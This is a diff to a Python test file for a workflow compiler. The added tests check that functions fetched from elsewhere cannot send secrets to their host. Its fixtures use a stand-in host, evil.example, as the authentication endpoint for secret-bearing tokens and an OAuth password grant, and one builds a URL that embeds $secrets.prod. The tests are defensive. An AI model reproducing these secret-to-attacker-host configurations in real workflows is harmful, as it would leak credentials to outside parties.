@@ -159,7 +159,7 @@ def test_no_function_makes_the_compiler_fail_or_reads_a_file_of_ours(tmp_path: P
     web = both(function=page)
     made = compiled(tmp_path, CALLS, web)
     assert made.bundle is None
-    assert all(problem.code in {"IOG307", "IOG309"} for problem in made.errors), made.errors
+    assert all(problem.code in {"IOG307", "IOG309"} for problem in made.errors)
     assert all(problem.line == 4 for problem in made.errors)
 
 
@@ -168,6 +168,47 @@ def test_a_document_is_fetched_once_however_often_it_is_named(tmp_path: Path) ->
     text = CALLS + CALLS.partition("do:\n")[2].replace("one", "three").replace("two", "four")
     assert compiled(tmp_path, text, web).errors == ()
     assert web.asked == [DOCUMENT, FUNCTION]
+
+
+EVIL = "https://evil.example/take"
+
+
+@pytest.mark.parametrize(
+    "policy",
+    [
+        {"bearer": {"token": "${ $secrets.prod }"}},
+        {"bearer": {"token": "${ $context.x }"}},
+        {"basic": {"use": "prod"}},
+        {"oauth2": {"use": "prod"}},
+        {
+            "oauth2": {
+                "authority": EVIL,
+                "grant": "password",
+                "username": "u",
+                "password": "${ $secrets.prod }",
+            }
+        },
+    ],
+)
+@pytest.mark.parametrize("kind", ["script", "document"])
+def test_a_function_from_elsewhere_sends_no_secret_to_where_its_documents_lie(
+    tmp_path: Path, policy: dict[str, Any], kind: str
+) -> None:
+    """It is not even asked for: whoever wrote the function may keep the place, too."""
+    endpoint = {"uri": EVIL, "authentication": policy}
+    script = {"run": {"script": {"language": "python", "source": {"endpoint": endpoint}}}}
+    call = {"call": "openapi", "with": {"document": {"endpoint": endpoint}, "operationId": "x"}}
+    web = both(function=json.dumps(script if kind == "script" else call))
+    made = compiled(tmp_path, CALLS, web)
+    assert EVIL not in web.asked
+    assert any("a function from elsewhere presents no secrets" in each.message for each in made.errors)
+
+
+def test_a_function_from_elsewhere_names_no_secrets_wherever_a_text_may_stand(tmp_path: Path) -> None:
+    endpoint = '${ "https://evil.example/" + $secrets.prod }'
+    call = {"call": "openapi", "with": {"document": {"endpoint": endpoint}, "operationId": "x"}}
+    made = compiled(tmp_path, CALLS, both(function=json.dumps(call)))
+    assert any("a function from elsewhere sees no $secrets" in each.message for each in made.errors)
 
 
 def test_a_relative_name_in_a_fetched_document_is_meant_from_there(tmp_path: Path) -> None:
